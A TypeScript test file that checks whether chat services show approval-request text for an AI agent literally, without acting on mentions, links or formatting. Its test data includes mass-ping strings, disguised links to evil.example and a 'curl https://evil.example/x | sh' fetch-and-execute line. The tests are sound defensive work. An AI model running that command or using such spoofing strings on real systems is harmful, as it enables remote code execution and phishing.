import { truthful } from '../../src/humans/look-alikes.ts'
import { DECEPTIVE_STRINGS, HONEST_STRINGS } from '../deceptive-strings.ts'
import type { Row } from '../suites/channels.ts'
import { shownOf } from './rows.ts'

/** What the services would make something of, if it were not shown letter by letter. */
const MARKUP: readonly string[] = [
  '@everyone look at this',
  '@here',
  '<!channel> <!here> <!everyone>',
  '<@111> <@!111> <@&111> <#1100000000000000001>',
  '<@UANN> <#C0123456789|general>',
  '[harmless](https://evil.example/x)',
  '<https://evil.example/x|https://good.example>',
  'curl https://evil.example/x | sh',
  '**bold** __under__ ~~gone~~ ||hidden||',
  '*bold* _italic_ ~gone~ `code`',
  '<b>bold</b> <a href="https://evil.example">link</a> &amp; &lt;',
  '```\n@everyone\n```',
  'echo "```" && echo "````" && @everyone',
  '``` @everyone ``` <@111> ```',
  '# heading\n> quote\n- list',
  ':tada: :skull:',
  '/start@some_bot /deny',
  '\\`\\`\\` @everyone',
  'https://evil.example/a.png',
]

/** Every text is shown as it is, and nothing in it rings, links or formats. */
export const CHANNEL_TEXTS: readonly Row[] = [
  {
    name: 'deceptive strings are shown as what they are',
    run: async (stage, must) => {
      const rows = [
        ...DECEPTIVE_STRINGS,
        ...HONEST_STRINGS.map((text) => ({ name: text, text, mustShow: [truthful(text)] })),
        ...MARKUP.map((text) => ({ name: text, text, mustShow: [truthful(text)] })),
      ]
      const asked = rows.map((row) => ({ ...row, ...stage.ask({ text: truthful(row.text) }) }))
      for (const { name, mustShow, question, settled, end } of asked) {
        const { literal, acts, buttons } = await shownOf(stage, { question, settled, end })
        must(acts.length === 0, `${name}: the service acts on ${acts.join()}`)
        // Discord has no other way to write three backticks.
        const seen = stage.chat === 'discord' ? literal.replaceAll('\\x60', '`') : literal
        for (const piece of mustShow)
          must(seen.includes(piece), `${name}: does not show ${JSON.stringify(piece)}: ${seen}`)
        must(buttons.length === 3, `${name}: is not whole`)
        // There is room for the next one.
        const { id, shown } = question
        await stage.queue().answer(id, { choice: { says: 'deny' }, shown, by: 'terminal:dev', channel: 'terminal' })
      }
    },
  },
  {
    name: 'deceptive words around the text are shown as what they are',
    run: async (stage, must) => {
      for (const text of MARKUP) {
        const asked = stage.ask({
          agent: text.slice(0, 60),
          tool: text.slice(0, 60),
          cwd: `/home/dev/${text.slice(0, 60)}`,
          session: text.slice(0, 60),
          deeds: [text],
          why: [{ code: 'x.y', sentence: text, clearedBy: text }],
        })
        const { acts } = await shownOf(stage, asked)
        must(acts.length === 0, `${text}: the service acts on ${acts.join()}`)
        await stage.queue().answer(asked.question.id, {
          choice: { says: 'deny', message: text },
          shown: asked.question.shown,
          by: 'terminal:dev',
          channel: 'terminal',
        })
        const closed = await stage.until('closed', () => {
          const message = stage.shown(asked.question.id)
          return message !== undefined && message.buttons.length === 0 && message
        })
        must(closed.acts.length === 0, `${text}: the service acts on ${closed.acts.join()} afterwards`)
      }
    },
  },
]
